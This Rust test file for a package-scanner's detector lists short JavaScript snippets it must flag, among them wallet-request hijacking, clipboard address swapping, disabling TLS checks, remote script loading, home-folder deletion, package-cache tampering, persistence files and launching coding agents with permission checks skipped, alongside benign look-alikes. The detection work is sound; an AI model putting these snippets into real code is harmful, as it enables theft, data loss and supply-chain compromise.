//! Ways around what abilities are seen by, and honest code that looks alike.

use weir_model::contents::CapabilityKind::{
    self, Clipboard, DetachedProcess, DisablesTls, DrivesAgents, Persists, Publishes, RemoteScript,
    RemovesHome, WrapsRequests, WritesPackages,
};

use super::ability::none_is_able;
use super::installed;
use crate::ability::EXCHANGES;

/// Ability and code of `index.js`.
const ABLE: &[(CapabilityKind, &str)] = &[
    (
        DetachedProcess,
        "const { spawn } = require('child_process'); const options = { cwd: '/x' }; options.detached = true; options.stdio = ['ignore', 'ignore', 'ignore']; spawn('node', ['w.js'], options).unref();",
    ),
    (
        DetachedProcess,
        "const o = { detached: true, stdio: 'ignore' }; require('child_process').spawn('node', ['w.js'], o)",
    ),
    (
        DrivesAgents,
        "const { spawn } = require('child_process'); const program = ['', 'x', '.bin', 'claude'].join('/'); spawn(program, ['--dangerously-skip-permissions', '-p', 'x'])",
    ),
    (
        DrivesAgents,
        "query({ prompt: 'x', options: { permissionMode: 'bypassPermissions' } })",
    ),
    (
        DisablesTls,
        "require('https').get({ host: 'a.invalid', checkServerIdentity: () => undefined })",
    ),
    (
        DisablesTls,
        "const o = {}; o.checkServerIdentity = function () { return null; };",
    ),
    (
        DisablesTls,
        "require('child_process').spawn('node', ['w.js'], { env: { ...process.env, NODE_TLS_REJECT_UNAUTHORIZED: '0' } })",
    ),
    (
        DisablesTls,
        "const o = {}; o['reject' + 'Unauthorized'] = false;",
    ),
    (
        DisablesTls,
        "const o = { ['reject' + `Unauthorized`]: false };",
    ),
    (DisablesTls, "agent.options.rejectUnauthorized = !1"),
    (
        RemoteScript,
        "const s = document.createElement('script'); s.setAttribute('src', 'https://a.invalid/x.js')",
    ),
    (
        RemoteScript,
        "box.insertAdjacentHTML('beforeend', '<iframe srcdoc=\"<script src=//a.invalid/a.js></script>\"></iframe>')",
    ),
    (
        RemoteScript,
        "frame.srcdoc = '<script src=\"https://a.invalid/a.js\"></script>'",
    ),
    (RemoteScript, "import('https://a.invalid/a.js')"),
    (
        RemoteScript,
        "const text = \"importScripts('https://a.invalid/a.js')\"; new Worker(URL.createObjectURL(new Blob([text])))",
    ),
    (
        WrapsRequests,
        "Object.defineProperty(window.ethereum, 'request', { value: (c) => c })",
    ),
    (
        WrapsRequests,
        "const e = window.ethereum; Reflect.set(e, 'request', (c) => c)",
    ),
    (
        WrapsRequests,
        "Object.assign(window.solana, { signTransaction: (t) => t })",
    ),
    (
        WrapsRequests,
        "window.ethereum = new Proxy(window.ethereum, { get: (real, name) => real[name] })",
    ),
    (
        WrapsRequests,
        "window['ether' + 'eum'] = new Proxy(window['ether' + 'eum'], { get: (real, name) => real[name] })",
    ),
    (
        WrapsRequests,
        "Object.defineProperty(window, 'ethereum', { value: new Proxy(window.ethereum, {}) })",
    ),
    (
        WrapsRequests,
        "for (const f of document.querySelectorAll('input')) if (/^0x[0-9a-f]{40}$/i.test(f.value)) f.value = 'x';",
    ),
    (
        RemovesHome,
        "const fs = require('fs'), path = require('path'); const home = require('os').homedir(); fs.renameSync(path.join(home, 'Documents'), '/tmp/x')",
    ),
    (
        RemovesHome,
        "const fs = require('fs'), path = require('path'); const folder = path.join(require('os').homedir(), 'projects'); for (const name of fs.readdirSync(folder)) fs.truncateSync(path.join(folder, name), 0);",
    ),
    (
        WritesPackages,
        "require('fs').symlinkSync(__dirname, '/srv/app/node_modules/ethers')",
    ),
    (
        WritesPackages,
        "const path = require('path'); require('fs').writeFileSync(path.join(require('os').homedir(), '.npm', '_cacache', 'index-v5', 'x'), 'x')",
    ),
    (
        WritesPackages,
        "const file = '/srv/app/package-lock.json'; require('fs').writeFileSync(file, x)",
    ),
    (
        Persists,
        "require('fs').writeFileSync('/srv/app/.envrc', x)",
    ),
    (
        Persists,
        "require('fs').writeFileSync('/usr/lib/python3/site-packages/x.pth', 'import x')",
    ),
    (
        Publishes,
        "require('child_process').execSync('npx -y np --yolo')",
    ),
    (
        Publishes,
        "fetch('https://api.code-host.invalid/repos/a/b/actions/workflows/release.yml/dispatches', { method: 'POST' })",
    ),
];

/// The ability must not be seen in this code.
const UNABLE: &[(CapabilityKind, &str)] = &[
    (
        DetachedProcess,
        "const o = { detached: true }; o.stdio = 'inherit'; require('child_process').spawn('node', ['w.js'], o)",
    ),
    (
        DetachedProcess,
        "const a = { detached: true }, b = { stdio: 'ignore' }; require('child_process').spawn('node', ['w.js'], b)",
    ),
    (
        DrivesAgents,
        "query({ prompt: 'x', options: { permissionMode: 'default' } })",
    ),
    (
        DisablesTls,
        "https.get({ checkServerIdentity: (host, cert) => tls.checkServerIdentity(host, cert) })",
    ),
    (
        DisablesTls,
        "const o = { checkServerIdentity: () => { throw new Error('no') } }",
    ),
    (
        DisablesTls,
        "const env = { NODE_TLS_REJECT_UNAUTHORIZED: '1' }; o.rejectUnauthorized = options.strict",
    ),
    (
        RemoteScript,
        "const i = document.createElement('img'); i.setAttribute('src', 'https://a.example/x.png')",
    ),
    (
        RemoteScript,
        "const s = document.createElement('script'); s.setAttribute('src', './x.js'); s.setAttribute('href', 'https://a.example/x.js')",
    ),
    (
        RemoteScript,
        "box.innerHTML = '<img src=\"https://a.example/x.png\">'; import('./x.js'); import('other')",
    ),
    (
        WrapsRequests,
        "Object.defineProperty(exports, 'request', { value: 1 }); Object.defineProperty(window.ethereum, 'isMine', { value: 1 })",
    ),
    (
        WrapsRequests,
        "const mine = make(); window.ethereum = new Proxy(mine, { deleteProperty: () => true })",
    ),
    (
        WrapsRequests,
        "if (/^0x[0-9a-f]{40}$/i.test(f.value)) f.value = checksum(f.value); if (/^[a-z]$/.test(g.value)) g.value = 'x';",
    ),
    (
        RemovesHome,
        "const fs = require('fs'), path = require('path'); const home = require('os').homedir(); fs.renameSync(path.join(home, '.tool', 'a'), path.join(home, '.tool', 'b'))",
    ),
    (RemovesHome, "require('fs').truncateSync('./log.txt', 0)"),
    (
        WritesPackages,
        "require('fs').symlinkSync('../src', 'node_modules/src')",
    ),
    (
        WritesPackages,
        "require('fs').writeFileSync(process.cwd() + '/package-lock.json', x)",
    ),
    (
        Persists,
        "require('fs').writeFileSync('weights/model.pth', x)",
    ),
    (
        Publishes,
        "require('child_process').execSync('npx -y np --version')",
    ),
    (
        Publishes,
        "fetch('https://api.code-host.example/repos/a/b/actions/workflows/release.yml/runs')",
    ),
];

#[test]
fn ways_around_are_seen() {
    let mut wrong = String::new();
    for (kind, code) in ABLE {
        let facts = installed(&[("index.js", code)]);
        if !facts.capabilities.iter().any(|one| one.kind == *kind) {
            wrong.push_str(&format!("{kind:?}: {code}\n  {:?}\n", facts.capabilities));
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
}

#[test]
fn honest_code_is_not_taken_for_them() {
    none_is_able(UNABLE);
}

/// Sums of more terms than a stack has frames for, which a parser reads without going deeper.
#[test]
fn a_handler_of_copies_may_be_deeper_than_the_stack() {
    let sum = "a+".repeat(8_000_000);
    let code = format!("document.addEventListener('copy', () => {{ x = {sum}a }})");
    let facts = installed(&[("index.js", &code)]);
    assert!(
        facts
            .unread
            .iter()
            .any(|it| it.why.contains("nested deeper")),
        "{:?}",
        facts.unread
    );
}

#[test]
fn handlers_of_copies_exchange_where_they_look_for_addresses() {
    let exchanges = |code: &str| {
        let facts = installed(&[("index.js", code)]);
        let mut found = facts.capabilities.iter();
        found.any(|one| one.kind == Clipboard && one.detail == EXCHANGES)
    };
    assert!(exchanges(
        "document.addEventListener('copy', (e) => { if (/^0x[0-9a-f]{40}$/i.test(String(getSelection()))) { e.clipboardData.setData('text/plain', 'x'); } })"
    ));
    assert!(!exchanges(
        "const coin = /^0x[0-9a-f]{40}$/i; document.addEventListener('copy', function (e) { e.clipboardData.setData('text/html', serialize()); })"
    ));
    assert!(!exchanges(
        "document.addEventListener('drop', (e) => { if (/^0x[0-9a-f]{40}$/i.test(x)) e.dataTransfer.setData('a', 'b') })"
    ));
}
